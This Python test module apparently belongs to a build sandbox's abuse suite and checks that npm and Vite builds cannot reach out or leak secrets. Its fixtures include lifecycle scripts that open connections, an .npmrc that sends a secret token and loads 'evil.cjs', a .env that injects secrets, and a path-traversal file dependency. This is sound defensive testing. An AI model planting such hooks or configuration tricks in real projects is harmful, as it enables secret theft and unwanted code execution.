"""What a project declares and brings along to have it run, fetched or read while its dependencies are resolved."""

from __future__ import annotations

import json
from collections.abc import Mapping

from build_worker.node import find_node
from services.settings import ToolSettings
from tests.abuse.case import Case, Lane, build_failed, rendered, site
from tests.abuse.evidence import Evidence
from tests.abuse.ground import Ground
from tests.abuse.plain_sites import of_our_registry
from tests.abuse.reporting import arrived

CALL = "node -e \"require('net').connect(5432, '127.0.0.1')\""
LIFECYCLE = ("preinstall", "install", "postinstall", "prepare", "prebuild", "postbuild", "preprepare", "dependencies")


def declaring(dependencies: Mapping[str, str], files: Mapping[str, str] | None = None) -> dict[str, str]:
    """A small site with further dependencies."""
    manifest = json.loads(site()["package.json"])
    manifest["dependencies"] |= dependencies
    return site({"package.json": json.dumps(manifest, indent=2), **(files or {})})


def refused(name: str, address: str) -> Case:
    """A dependency that is not of the registry: nothing is fetched."""
    return Case(
        f"build/{name}-dependency",
        declaring({"elsewhere": address}),
        (build_failed("resolve/refused-dependency"),),
        live=lambda ground: fetches(ground, address),
    )


def npm(ground: Ground, manifest: Mapping[str, object]) -> str:
    """Plain ``npm install``; what it says."""
    (ground.folder / "package.json").write_text(ground.canaries.fill(json.dumps({"name": "site", **manifest})))
    (ground.folder / "cache").mkdir(exist_ok=True)
    flags = ("install", "--no-audit", "--no-fund", "--fetch-retries=0", f"--cache={ground.folder}/cache")
    return ground.run(*find_node(ToolSettings()).npm, *flags).stdout.decode(errors="replace")


def fetches(ground: Ground, address: str) -> None:
    """npm calls the address, or takes what lies there."""
    if address.startswith("file:"):
        package = ground.folder / "elsewhere"
        package.mkdir()
        (package / "package.json").write_text(json.dumps({"name": "elsewhere", "version": "1.0.0"}))
        said = npm(ground, {"dependencies": {"elsewhere": "file:elsewhere"}})
        assert (ground.folder / "node_modules/elsewhere").is_symlink(), said
        return
    before = ground.canaries.reached("gateway")
    npm(ground, {"dependencies": {"elsewhere": address}})
    arrived(ground, "gateway", before)


def scripts_live(ground: Ground) -> None:
    before = ground.canaries.reached("database")
    npm(ground, {"scripts": {"preinstall": CALL}})
    arrived(ground, "database", before)


def npmrc_live(ground: Ground) -> None:
    (ground.folder / ".npmrc").write_text(NPMRC)
    before = ground.canaries.reached("gateway")
    npm(ground, {"dependencies": {"vite": "0.0.1"}})
    arrived(ground, "gateway", before)


def dot_env_live(ground: Ground) -> None:
    """Vite puts the environment's secret into the bundle."""
    built = ground.build(DOT_ENV_SITE)
    secret = ground.canaries.secret.encode()
    assert any(secret in content for path, content in built.items() if path.endswith(".js")), built["build.log"]


def tsconfig_live(ground: Ground) -> None:
    """What lies above the site decides how it is built."""
    (ground.folder / "tsconfig.json").write_text('{"compilerOptions": {"jsx": "react", "jsxFactory": "outside"}}')
    built = ground.build(TSCONFIG_SITE)
    scripts = b"".join(content for path, content in built.items() if path.endswith(".js"))
    assert b"outside(" in scripts, built["build.log"]


def is_the_real_vite(evidence: Evidence) -> None:
    assert not evidence.names("EVIL-VITE")


def kept_no_address(evidence: Evidence) -> None:
    """Nothing of the environment but the sandbox's own came in."""
    scripts = b"".join(content for path, content in evidence.bundle.items() if path.endswith(".js"))
    assert not scripts or b"leaked:" in scripts
    assert b"redis" not in scripts
    assert b"sqlite" not in scripts


NPMRC = """registry=http://127.0.0.1:8080/
//127.0.0.1:8080/:_authToken=${@SECRET_VARIABLE@}
script-shell=/bin/sh
ignore-scripts=false
git=/bin/sh
node-options=--require ./evil.cjs
"""
DOT_ENV = """VITE_LEAKED="leaked:${@SECRET_VARIABLE@}:${WEBGEN_BROKER__URL}:${WEBGEN_RECORDS__URL}:end"
NODE_OPTIONS=--require ./evil.cjs
PATH=.
HOME=/
VITE_USER_NODE_ENV=development
NPM_CONFIG_REGISTRY=http://127.0.0.1:8080/
"""
EVIL = "require('net').connect(8080, '127.0.0.1');"
DOT_ENV_SITE = site(
    {
        ".env": DOT_ENV,
        ".env.production": DOT_ENV,
        "evil.cjs": EVIL,
        "src/main.tsx": site()["src/main.tsx"] + "\ndocument.title = String(import.meta.env.VITE_LEAKED);\n",
    }
)
TSCONFIG_SITE = site(
    {
        "tsconfig.json": '{"extends": "../tsconfig.json", "include": ["src"]}',
        "vite.config.ts": "import { defineConfig } from 'vite';\nexport default defineConfig({});\n",
        "src/App.tsx": "import React from 'react';\n" + site()["src/App.tsx"],
    }
)
REFUSED = build_failed("build/outside-file")
DECLINED = build_failed("build/declined")
"""The scaffold lane's word for configuration that it cannot read as data; by ``auto`` the project lane has it then."""

BOTH: tuple[Lane, ...] = ("scaffold", "project")

CASES = [
    Case(
        "build/lifecycle-scripts",
        of_our_registry({"abuse-scripts": "0.0.1"}, scripts=dict.fromkeys(LIFECYCLE, CALL)),
        (rendered(),),
        live=scripts_live,
    ),
    refused("git", "git+http://127.0.0.1:8080/elsewhere.git"),
    refused("url", "http://127.0.0.1:8080/elsewhere.tgz"),
    refused("file", "file:../../../../../..@SECRET_FILE@"),
    Case("build/bin-called-vite", of_our_registry({"abuse-bin": "0.0.1"}), (rendered(),), check=is_the_real_vite),
    Case(
        "build/npmrc",
        of_our_registry({"again": "npm:react@0.0.1"}, {".npmrc": NPMRC, "evil.cjs": EVIL}),
        (rendered(),),
        live=npmrc_live,
    ),
    Case(
        "build/dot-env",
        DOT_ENV_SITE,
        (DECLINED, rendered()),
        live=dot_env_live,
        check=kept_no_address,
        lanes=BOTH,
    ),
    Case(
        "build/tsconfig-extends-outside",
        TSCONFIG_SITE,
        (REFUSED, DECLINED, build_failed("build/error")),
        live=tsconfig_live,
        lanes=BOTH,
    ),
]
